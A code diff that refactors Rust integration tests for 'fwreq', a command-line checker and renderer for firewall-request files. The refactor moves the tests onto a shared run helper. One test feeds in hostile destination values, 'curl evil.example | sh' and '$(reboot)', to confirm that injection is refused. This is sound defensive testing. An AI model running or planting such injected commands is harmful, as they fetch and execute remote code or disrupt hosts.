@@ -9,6 +9,7 @@ use common::HEADER;
 use predicates::prelude::*;
 use std::fs;
 
+use std::path::Path;
 use std::process::Output;
 
 /// A valid one-rule request, clean of lints.
@@ -82,18 +83,16 @@ fn shell_injection_in_a_destination_is_refused_and_nothing_is_rendered() {
         "{HEADER}[[rules]]\nports = [443]\ndestinations = [\"a.example.com; curl evil.example | sh\", \"$(reboot).example.com\"]\n"
     );
     write(dir.path(), "req.toml", &text);
-    cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["render", "req.toml"])
-        .assert()
-        .code(1)
-        .stdout("")
-        .stderr(predicate::str::starts_with(
-            "req.toml:9:17: error: `;` is not allowed in a destination",
-        ))
-        .stderr(predicate::str::contains(
-            "req.toml:9:58: error: `$` is not allowed in a destination",
-        ));
+    let (code, out, err) = common::run(dir.path(), &["render", "req.toml"]);
+    assert_eq!((code, out.as_str()), (1, ""), "{err}");
+    common::assert_starts(
+        &err,
+        "req.toml:9:17: error: `;` is not allowed in a destination",
+    );
+    common::assert_contains(
+        &err,
+        "req.toml:9:58: error: `$` is not allowed in a destination",
+    );
 }
 
 #[test]
@@ -139,18 +138,14 @@ fn every_file_is_checked_even_after_a_bad_one() {
         &valid().replace("443", "0"),
     );
     write(dir.path(), "notes.txt", "not a request");
-    cargo_bin_cmd!("fwreq")
-        .current_dir(dir.path())
-        .args(["check", "."])
-        .assert()
-        .code(1)
-        .stderr(predicate::str::contains("./a.toml:1:9: error:"))
-        .stderr(predicate::str::contains(
-            "./nested/c.toml:8:10: error: port 0 is not a real port",
-        ))
-        .stderr(predicate::str::ends_with(
-            "checked 3 requests: 2 errors, 0 warnings\n",
-        ));
+    let (code, _, err) = common::run(dir.path(), &["check", "."]);
+    assert_eq!(code, 1, "{err}");
+    common::assert_contains(&err, "./a.toml:1:9: error:");
+    common::assert_contains(
+        &err,
+        "./nested/c.toml:8:10: error: port 0 is not a real port",
+    );
+    common::assert_ends(&err, "checked 3 requests: 2 errors, 0 warnings\n");
 }
 
 #[test]
@@ -202,20 +197,17 @@ fn check_of_a_clean_request_prints_only_the_summary() {
 
 #[test]
 fn a_missing_file_is_an_io_error_with_exit_2() {
-    cargo_bin_cmd!("fwreq")
-        .args(["check", "does-not-exist.toml"])
-        .assert()
-        .code(2)
-        .stderr(predicate::str::contains(
-            "does-not-exist.toml: no such file or directory",
-        ));
-    cargo_bin_cmd!("fwreq")
-        .args(["render", "does-not-exist.toml"])
-        .assert()
-        .code(2)
-        .stderr(predicate::str::starts_with(
-            "fwreq: error: cannot read does-not-exist.toml",
-        ));
+    for (command, said) in [
+        (
+            "check",
+            "fwreq: error: does-not-exist.toml: no such file or directory",
+        ),
+        ("render", "fwreq: error: cannot read does-not-exist.toml"),
+    ] {
+        let (code, _, err) = common::run(Path::new("."), &[command, "does-not-exist.toml"]);
+        assert_eq!(code, 2, "{command}: {err}");
+        common::assert_starts(&err, said);
+    }
 }
 
 #[test]
@@ -553,10 +545,10 @@ fn valid_and_invalid() -> tempfile::TempDir {
 fn expiring_and_list_status_show_an_invalid_file_and_exit_1() {
     let dir = valid_and_invalid();
     let error = "./b.toml:8:1: error: unknown field `prts`, expected one of `comment`, `protocol`, `ports`, `action`, `sources`, `destinations`, `fields`";
-    let out = common::fwreq_in(dir.path(), &["expiring", ".", "--today", "2026-11-26"]);
-    assert_eq!(out.status.code(), Some(1));
+    let (code, out, err) = common::run(dir.path(), &["expiring", ".", "--today", "2026-11-26"]);
+    assert_eq!(code, 1);
     assert_eq!(
-        common::stdout(&out),
+        out,
         format!(
             "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES     RULES  FLOWS  WHEN\n./a.toml  t{}  -     -    draft   -          2026-12-01  1      1      in 5 days\n./b.toml  (invalid) {error}  -     -    -       -          -           0      0\n",
             " ".repeat(error.len() + 5),
@@ -564,19 +556,16 @@ fn expiring_and_list_status_show_an_invalid_file_and_exit_1() {
         )
     );
     assert_eq!(
-        common::stderr(&out),
+        err,
         common::renew_or_remove("./a.toml")
             + "0 requests expired, 1 expiring within 30 days, 1 invalid file (as of 2026-11-26)\n"
     );
-    let out = common::fwreq_in(dir.path(), &["list", ".", "--status", "approved"]);
-    assert_eq!(out.status.code(), Some(1));
-    assert_eq!(
-        common::stdout(&out),
-        format!(
-            "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES  RULES  FLOWS\n./b.toml  (invalid) {error}  -     -    -       -          -        0      0\n",
-            " ".repeat(error.len() + 5)
-        )
+    let (code, out, _) = common::run(dir.path(), &["list", ".", "--status", "approved"]);
+    let table = format!(
+        "PATH      TITLE{}  RITM  REQ  STATUS  SUBMITTED  EXPIRES  RULES  FLOWS\n./b.toml  (invalid) {error}  -     -    -       -          -        0      0\n",
+        " ".repeat(error.len() + 5)
     );
+    assert_eq!((code, out), (1, table));
 }
 
 #[test]
@@ -676,44 +665,30 @@ fn a_reader_that_stops_early_is_not_an_error_but_a_full_disk_is() {
 fn one_output_file_and_one_html_page_take_one_request() {
     let dir = tempfile::tempdir().unwrap();
     let out = dir.path().join("out.md");
+    let output = out.to_str().unwrap();
     let two = [
         "requests/avilla-calico-registry.toml",
         "requests/albion-plant-time-and-logs.toml",
     ];
-    let refused = cargo_bin_cmd!("fwreq")
-        .arg("render")
-        .args(two)
-        .arg("-o")
-        .arg(&out)
-        .output()
-        .unwrap();
+    let here = Path::new(".");
+    let (code, _, err) = common::run(here, &["render", two[0], two[1], "-o", output]);
     assert_eq!(
-        (refused.status.code(), common::stderr(&refused).as_str()),
-        (
-            Some(2),
-            "fwreq: error: --output takes one request file, got 2\n"
-        )
+        (code, err.as_str()),
+        (2, "fwreq: error: --output takes one request file, got 2\n")
     );
     assert!(!out.exists());
-    let refused = cargo_bin_cmd!("fwreq")
-        .arg("render")
-        .args(two)
-        .args(["--format", "html"])
-        .output()
-        .unwrap();
-    assert_eq!(refused.status.code(), Some(2));
-    assert!(refused.stdout.is_empty());
+    let refused = common::run(here, &["render", two[0], two[1], "--format", "html"]);
     assert_eq!(
-        String::from_utf8(refused.stderr).unwrap(),
-        "fwreq: error: --format html makes one page per request; give one file, or use `fwreq site` for many\n"
+        refused,
+        (
+            2,
+            String::new(),
+            "fwreq: error: --format html makes one page per request; give one file, or use `fwreq site` for many\n".to_string()
+        )
     );
     // One request: the file and the page are made.
-    let one = cargo_bin_cmd!("fwreq")
-        .args(["render", two[0], "--format", "html", "-o"])
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert_eq!(one.status.code(), Some(0), "{one:?}");
+    let (code, _, err) = common::run(here, &["render", two[0], "--format", "html", "-o", output]);
+    assert_eq!(code, 0, "{err}");
     assert!(
         fs::read_to_string(&out)
             .unwrap()
